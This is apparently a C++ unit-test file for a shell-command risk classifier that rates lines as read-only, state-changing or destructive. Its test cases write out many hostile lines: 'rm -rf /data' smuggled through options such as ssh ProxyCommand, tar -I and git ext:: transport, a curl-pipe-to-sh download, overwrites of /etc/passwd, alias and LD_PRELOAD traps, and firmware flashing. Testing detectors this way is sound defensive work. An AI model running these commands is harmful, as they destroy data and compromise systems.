// RiskClassifier: how a line's words are read before they are judged. A read-only option (help,
// version, a listing, a dry run) never hides what the rest of the line writes, deletes or runs; a
// word like -batch is a bundle of one-letter options only where every letter is catalogued; a word
// after an uncatalogued option may be that option's value (srun -N 1 CMD, mlxconfig -d DEV set), so
// both readings are judged; and the command words of ip, parted, flint, mlxconfig, mst, rdma and
// ctr are read as those tools read them.
#include <gtest/gtest.h>

#include <initializer_list>
#include <optional>
#include <string>
#include <vector>

#include "app/domain/nvsmi_catalog.h"
#include "app/domain/risk_classifier.h"
#include "app/domain/shell_catalog.h"
#include "app/domain/shell_parser.h"
#include "knowledge_packs.h"

using namespace sigma::domain;

namespace {

using sigma_test::classify;

std::string joined(const RiskReport& r) { return sigma_test::joined_reasons(r); }

struct Case {
    const char* line;
    Risk risk;
    const char* reason;  // substring expected in some reason; empty: not checked
};

void check(const Case& c) {
    const RiskReport r = classify(c.line);
    EXPECT_EQ(risk_text(r.risk), std::string(risk_text(c.risk))) << c.line << " -> " << joined(r);
    if (*c.reason) {
        EXPECT_NE(joined(r).find(c.reason), std::string::npos) << c.line << " -> " << joined(r);
    }
}

constexpr Risk RO = Risk::ReadOnly, CS = Risk::ChangesState, DE = Risk::Destructive;

// Every line `head` + one of `tails` that parses classifies at `floor` or above.
void expect_no_line_below(const std::string& head, const std::vector<std::string>& tails, Risk floor) {
    for (const std::string& tail : tails) {
        const ShellParseResult p = parse_shell(head + tail);
        if (!p.ok) continue;  // "sudo -u" without its value: no command at all
        const RiskReport r = classify_line(sigma_test::shell_catalog(), sigma_test::nvsmi_catalog(), p);
        EXPECT_GE(static_cast<int>(r.risk), static_cast<int>(floor))
            << head << tail << " -> " << joined(r) << " (floor " << risk_text(floor) << ")";
    }
}

// Adds " <option>" for every spelling of the specs' options, and, when `before` or `after` is set, the
// same with those words around it.
void add_option_tails(std::vector<std::string>& tails, std::initializer_list<const ShellSpec*> specs,
                      const std::string& before, const std::string& after) {
    for (const ShellSpec* spec : specs)
        for (const ShellOption& o : spec->options)
            for (const std::string& spelling : o.spellings) {
                tails.push_back(" " + spelling);
                if (!before.empty() || !after.empty()) tails.push_back(before + " " + spelling + after);
            }
}

}  // namespace

TEST(RiskReadings, ReadOnlyOptionsDoNotHideWhatTheRestOfTheLineDoes) {
    const Case cases[] = {
        // A listing mode lowers the tool's own class only; its other options still count.
        {"crontab -l -r", DE, "removes every cron job"},
        {"crontab -lr", DE, "removes every cron job"},
        {"mdadm --detail /dev/md0 --stop", DE, "stops an array"},
        {"modprobe -c -r nvidia", CS, "removes the module"},
        // Options the pack does not know may do anything: no listing makes them harmless.
        {"tune2fs -l -O ^has_journal /dev/sda1", CS, "tune2fs"},
        {"sgdisk -p -Z /dev/sda", DE, "sgdisk"},
        // Help and version count only when nothing else is asked for.
        {"gcc -v -o /etc/passwd x.c", DE, "system tree /etc"},
        {"gcc -v x.c", CS, "gcc"},
        {"python -V -c 'import os'", CS, "python"},
        {"ruby -v evil.rb", CS, "ruby"},
        {"rm --help important.txt", CS, "rm"},
        {"ninja -v", CS, "ninja"},
        {"srun --help", RO, "--help"},
        // Read-only words only when every operand is one (or a number or a path).
        {"parted /dev/sda rm 1 print", DE, "edits the partition table"},
        {"parted /dev/sda print rm 1", DE, "edits the partition table"},
        {"parted -l rm 1", DE, "parted rm"},
        {"go run main.go version", CS, "go"},
        {"make install version", CS, "make"},
        {"npm version patch", CS, "npm"},
        // Dry runs: the tool's own effects do not happen, the code it runs still does.
        {"git push -n --force origin main", RO, "a dry run"},
        {"git clean -nfd", RO, "a dry run"},
        {"rsync -avn --delete src/ host:/srv/backup/", RO, "a dry run"},
        {"rsync -n -e 'rm -rf /data' src/ host:dst/", DE, "runs this program as the remote shell"},
        {"apt-get -s purge nginx", RO, "a dry run"},
        {"tar -tf x.tar -I 'rm -rf /data'", DE, "runs 'rm -rf /data' as a program"},
        {"apt-get -s -o APT::Get::Simulate=false purge nginx", DE, "removes packages and their configuration"},
        {"ssh-keygen -l -R host", CS, "removes the host's keys"},
        {"screen -ls -X quit", CS, "sends a command to a running session"},
        {"nvidia-smi -f=/etc/x -q", DE, "system tree /etc"},
        // Shells, interpreters and kill stop reading options at the first operand.
        {"kill -s KILL 4242 -l", CS, "kill"},
        {"kill -s KILL 1 -l", DE, "PID 1"},
        {"bash x.sh -n", CS, "bash"},
        {"python3 x.py -V", CS, "python3"},
        // Controls: plain listings stay read-only.
        {"crontab -l", RO, "-l"},
        {"fdisk -l /dev/sda", RO, "-l"},
        {"parted /dev/sda print", RO, "print"},
        {"parted -s /dev/sda unit GB print free", RO, "print"},
        {"kill -l 9", RO, "-l"},
        {"go version", RO, "version"},
        {"python3 --version", RO, "--version"},
        {"mdadm --detail --scan", RO, "--detail"},
        {"ssh-keygen -lf key.pub", RO, "-l"},
        {"tar -tzf x.tgz", RO, "lists an archive"},
    };
    for (const Case& c : cases) check(c);
}

TEST(RiskReadings, AWordIsABundleOnlyWhereEveryLetterIsCatalogued) {
    const Case cases[] = {
        // -batch is not -b -a -t -c -h: the -h in it is no help option.
        {"gdb -batch -ex run ./a.out", CS, "gdb"},
        {"gdb -batch -ex 'shell rm -rf /data' ./a.out", DE, "runs a shell command"},
        {"gdb --args rm -rf /data", DE, "deletes a whole directory tree"},
        {"java -showversion -jar x.jar", CS, "java"},
        {"java -version", RO, "-version"},
        // A guessed letter still raises the class where it may be an option that does.
        {"perfquery -xR 12 1", CS, "resets the port counters"},
    };
    for (const Case& c : cases) check(c);
}

TEST(RiskReadings, AWordAfterAnUncataloguedOptionMayBeItsValue) {
    const Case cases[] = {
        {"srun -N 1 rm -rf /data", DE, "deletes a whole directory tree"},
        {"srun -p ls rm -rf /data", DE, "deletes a whole directory tree"},
        {"srun -w node1 --mpi pmix rm -rf /data", DE, "deletes a whole directory tree"},
        {"salloc -N 2 rm -rf /data", DE, "deletes a whole directory tree"},
        {"mpirun --mca btl tcp,self -np 2 rm -rf /data", DE, "deletes a whole directory tree"},
        {"ltrace -e malloc rm -rf /data", DE, "deletes a whole directory tree"},
        {"cuda-memcheck --leak-check full rm -rf /data", DE, "deletes a whole directory tree"},
        {"mlxconfig --unknown-flag DEV set SRIOV_EN=1", CS, "also judged with 'DEV' as its value"},
        {"docker compose -f prod.yml down -v", DE, "deletes the project's volumes"},
        {"cryptsetup --type luks2 luksFormat /dev/sdb", DE, "formats the device"},
        {"helm -n prod uninstall web", DE, "deletes the release"},
        // Controls.
        {"srun -N 4 --ntasks-per-node=1 hostname", RO, "hostname"},
        {"mpirun --mca btl tcp,self -np 2 hostname", RO, "hostname"},
        {"ctr -n k8s.io images ls", RO, "ctr images ls"},
        {"mlxconfig -d 03:00.0 q", RO, "mlxconfig q"},
    };
    for (const Case& c : cases) check(c);
}

TEST(RiskReadings, UncataloguedSubcommandsAreNeverReadOnly) {
    for (const char* line :
         {"docker compose frobnicate", "docker volume frob pgdata", "git remote set-head origin main",
          "openssl frobnicate", "conda env config vars set X=1"}) {
        const RiskReport r = classify(line);
        EXPECT_NE(r.risk, Risk::ReadOnly) << line << " -> " << joined(r);
        EXPECT_NE(joined(r).find("not catalogued"), std::string::npos) << line << " -> " << joined(r);
    }
}

TEST(RiskReadings, NetworkAndFirmwareToolsReadTheirCommandWords) {
    const Case cases[] = {
        {"flint -d /dev/mst/mt4123_pciconf0 -i fw.bin burn", DE, "writes firmware"},
        {"mstflint -d 03:00.0 -i fw.bin b", DE, "writes firmware"},
        {"flint -d 03:00.0 q", RO, "flint q"},
        {"mlxconfig -d 03:00.0 set SRIOV_EN=1", CS, "changes the device's firmware configuration"},
        {"mlxconfig -d 03:00.0 -y reset", CS, "resets the device's firmware configuration"},
        {"mst start", CS, "loads the mst kernel modules"},
        {"mst status -v", RO, "mst status"},
        {"rdma link set mlx5_0/1 state down", CS, "rdma link set"},
        {"rdma link show", RO, "rdma"},
        {"ctr images rm docker.io/library/nginx:latest", DE, "deletes images"},
        {"ctr tasks kill web", CS, "signals the task"},
        {"ctr tasks exec --exec-id x web rm -rf /data", DE, "deletes a whole directory tree"},
        {"perfquery -R", CS, "resets the port counters"},
        {"perfquery -r", CS, "resets the port counters"},
        {"perfquery", RO, "perfquery"},
        // ip: any prefix of a command word, per object as iproute2 matches them.
        {"ip a d 10.0.0.5/24 dev eth0", CS, "ip a d"},
        {"ip l s eth0 mtu 9000", CS, "ip l s"},
        {"ip a f dev eth0", DE, "removes every entry"},
        {"ip -n ns1 link set eth0 down", CS, "link set"},
        {"ip -b cmds.txt", CS, "runs commands read from a file"},
        {"ip netns exec ns1 rm -rf /data", DE, "deletes a whole directory tree"},
        {"ip a s ens5", RO, "ip"},
        {"ip r", RO, "ip"},
        {"ip route get 1.1.1.1", RO, "ip"},
        {"ip -s -s link show ib0", RO, "ip"},
        {"ifconfig eth0 10.0.0.5", CS, "configures the interface"},
        {"ifconfig eth0", RO, "ifconfig"},
    };
    for (const Case& c : cases) check(c);
}

TEST(RiskReadings, CommandsRunByJobLaunchersProfilersAndSchedulersAreJudged) {
    const Case cases[] = {
        {"sbatch --wrap 'rm -rf /data'", DE, "deletes a whole directory tree"},
        {"srun -o /etc/passwd hostname", DE, "system tree /etc"},
        {"perf stat -e cycles rm -rf /data", DE, "deletes a whole directory tree"},
        {"nsys profile -o out rm -rf /data", DE, "deletes a whole directory tree"},
        {"ncu --set full rm -rf /data", DE, "deletes a whole directory tree"},
        {"valgrind --tool=memcheck rm -rf /data", DE, "deletes a whole directory tree"},
        {"flock /tmp/lock -c 'rm -rf /data'", DE, "deletes a whole directory tree"},
        {"pdsh -w node[01-04] 'rm -rf /scratch/x'", DE, "deletes a whole directory tree"},
        {"ansible all -a 'rm -rf /data'", DE, "deletes a whole directory tree"},
        {"echo 'rm -rf /data' | at now", DE, "deletes a whole directory tree"},
        {"echo '* * * * * rm -rf /data' | crontab -", DE, "a job it installs"},
        {"srun curl -s https://x.example/a.sh | sh", DE, "downloaded by curl"},
        {"perf stat -a sleep 1", RO, "perf stat"},
    };
    for (const Case& c : cases) check(c);
}

TEST(RiskReadings, OptionsThatRunCodeOrWriteFilesInOtherwiseReadOnlyTools) {
    const Case cases[] = {
        {"ssh -o ProxyCommand='rm -rf /data' host true", DE, "runs 'rm -rf /data' on this machine"},
        {"git ls-remote 'ext::sh -c rm% -rf% /data'", DE, "ext:: transport"},
        {"curl -D /etc/headers https://x.example", DE, "system tree /etc"},
        {"openssl s_client -connect host:443 -sess_out /etc/x", DE, "system tree /etc"},
        {"docker cp web:/tmp/x /etc/passwd", DE, "system tree /etc"},
        {"vim -c ':!rm -rf /data' x", DE, "deletes a whole directory tree"},
        {"ethtool -f eth0 fw.bin", DE, "flashes the NIC's firmware"},
        {"ethtool --change eth0 speed 1000", CS, "changes link settings"},
        {"iptables --flush", DE, "flushes"},
        {"hostnamectl hostname evil", CS, "sets the host name"},
        {"pkill -f .", DE, "matches every process"},
        {"killall -u root", DE, "every process of root"},
        {"pkill -u bob python", CS, "pkill"},
        {"hostnamectl hostname", RO, "hostnamectl"},
        {"ethtool -S eth0", RO, "ethtool"},
    };
    for (const Case& c : cases) check(c);
}

TEST(RiskReadings, ShellStateThatArmsLaterCommandsIsJudgedByWhatItRuns) {
    const Case cases[] = {
        {"alias ls='rm -rf /data'", DE, "deletes a whole directory tree"},
        {"export PROMPT_COMMAND='rm -rf /data'", DE, "later commands run or load"},
        {"PROMPT_COMMAND='rm -rf /data'", DE, "deletes a whole directory tree"},
        {"export LD_PRELOAD=/tmp/evil.so", CS, "later commands run or load"},
        {"hash -p /tmp/evil ls", CS, "makes a name run another program"},
        {"date 010112002025", CS, "sets the system clock"},
        {"alias ll='ls -l'", RO, "ls"},
        {"export EDITOR=vim", RO, "export"},
        {"date +%F", RO, "date"},
    };
    for (const Case& c : cases) check(c);
}

TEST(RiskReadings, MoreOptionsThatRunCommands) {
    const Case cases[] = {
        {"git grep -O'rm -rf /data' foo", DE, "deletes a whole directory tree"},
        {"git bisect run rm -rf /data", DE, "deletes a whole directory tree"},
        {"git submodule foreach 'rm -rf /data'", DE, "deletes a whole directory tree"},
        {"split --filter='rm -rf /data' big.txt", DE, "deletes a whole directory tree"},
        {"tcpdump -i lo -w /dev/null -W 1 -G 1 -z 'rm -rf /data'", DE, "deletes a whole directory tree"},
        {"man --html='rm -rf /data' ls", DE, "deletes a whole directory tree"},
        {"nmap -oN /etc/passwd host", DE, "system tree /etc"},
        {"awk -l /tmp/evil 'BEGIN{}'", CS, "loads an extension library"},
        {"cmake -E rm -rf /data", DE, "deletes a whole directory tree"},
        {"cmake -E echo hi", CS, "cmake"},
        {"kubeadm reset -f", DE, "tears down the node"},
        {"etcdctl del --prefix \"\"", DE, "deletes keys"},
        {"terraform apply -destroy", DE, "destroys every resource"},
        {"debugfs -w -R 'rm /etc/passwd' /dev/sda1", DE, "opens the file system for writing"},
        {"terraform plan", RO, "terraform plan"},
        {"etcdctl get / --prefix --keys-only", RO, "etcdctl get"},
    };
    for (const Case& c : cases) check(c);
}

TEST(RiskReadings, CommandsStartedByMultiplexersContainersAndBmcsAreJudged) {
    const Case cases[] = {
        {"tmux new -d -s work 'rm -rf /data'", DE, "deletes a whole directory tree"},
        {"tmux send-keys -t work 'rm -rf /data' Enter", DE, "deletes a whole directory tree"},
        {"screen -dmS x rm -rf /data", DE, "deletes a whole directory tree"},
        {"docker compose exec web rm -rf /data", DE, "deletes a whole directory tree"},
        {"crictl exec -it c1 rm -rf /data", DE, "deletes a whole directory tree"},
        {"singularity exec --bind /:/host img.sif rm -rf /host/data", DE, "deletes a whole directory tree"},
        {"ipmitool -I lanplus -H bmc -U admin -P pw chassis power off", DE, "cuts the machine's power"},
        {"ipmitool sel clear", DE, "clears the system event log"},
        {"ipmitool sel list", RO, "ipmitool sel list"},
        {"docker compose exec web ls", RO, "ls"},
        {"tmux send-keys -t work C-c", CS, "types keys into a pane"},
    };
    for (const Case& c : cases) check(c);
}

// risk_floor is what the command constraint holds a question to at a line's first word: no line may
// start with a tool whose floor is above read-only. So no line the classifier would call read-only
// may start with one: every catalogued tool, bare and with each of its options, help and version
// spellings and operands, classifies at its floor or above.
TEST(RiskReadings, NoLineRunsAToolBelowItsFloor) {
    const ShellCatalog& shell = sigma_test::shell_catalog();
    ASSERT_FALSE(shell.tools().empty());
    int above_read_only = 0;
    for (const ShellSpec& t : shell.tools()) {
        const Risk floor = risk_floor(t);
        if (floor == Risk::ReadOnly) continue;
        ++above_read_only;
        std::vector<std::string> tails = {"",    " --help", " -h",     " -V", " --version", " -l",
                                          " -n", " x",      " /tmp/x", " -",  " -- x",      " --dry-run"};
        add_option_tails(tails, {&t}, "", " x");
        expect_no_line_below(t.name, tails, floor);
        for (const std::string& alias : t.aliases) expect_no_line_below(alias, tails, floor);
    }
    EXPECT_GT(above_read_only, 30);
    // Subcommands the same way (systemctl stop, kubectl drain), with the tool's options too.
    int subcommands_above = 0;
    for (const ShellSpec& t : shell.tools()) {
        for (const ShellSpec& sub : t.subcommands) {
            const Risk floor = risk_floor(t, sub);
            if (floor == Risk::ReadOnly) continue;
            ++subcommands_above;
            std::vector<std::string> tails = {"", " --help", " -h", " x", " x y", " --dry-run", " -n x"};
            add_option_tails(tails, {&t, &sub}, " x", " y");
            expect_no_line_below(t.name + " " + sub.name, tails, floor);
        }
    }
    EXPECT_GT(subcommands_above, 20);
    // A first word that names no catalogued subcommand.
    int unknown_above = 0;
    for (const ShellSpec& t : shell.tools()) {
        if (t.subcommands.empty()) continue;
        const Risk floor = unknown_subcommand_floor(t);
        if (floor == Risk::ReadOnly) continue;
        ++unknown_above;
        std::vector<std::string> tails = {"", " --help", " -h", " x", " --dry-run", " -n x"};
        add_option_tails(tails, {&t}, "", "");
        expect_no_line_below(t.name + " zzfrob", tails, floor);
    }
    EXPECT_GT(unknown_above, 5);
    // Tools that some line runs read-only keep a read-only floor.
    for (const char* name : {"kill", "tar", "rsync", "tee", "wget", "systemctl", "find", "nice", "bash", "shred"}) {
        const ShellSpec* t = shell.find(name);
        ASSERT_NE(t, nullptr) << name;
        EXPECT_EQ(risk_floor(*t), Risk::ReadOnly) << name;
    }
    EXPECT_EQ(risk_floor(*shell.find("pkill")), Risk::ChangesState);
    EXPECT_EQ(risk_floor(*shell.find("wipefs")), Risk::Destructive);
    const ShellSpec& systemctl = *shell.find("systemctl");
    EXPECT_EQ(risk_floor(systemctl, *systemctl.find_subcommand("stop")), Risk::ChangesState);
    EXPECT_EQ(risk_floor(systemctl, *systemctl.find_subcommand("status")), Risk::ReadOnly);
    EXPECT_EQ(risk_floor(*shell.find("shred")), Risk::ReadOnly);  // shred --help
}
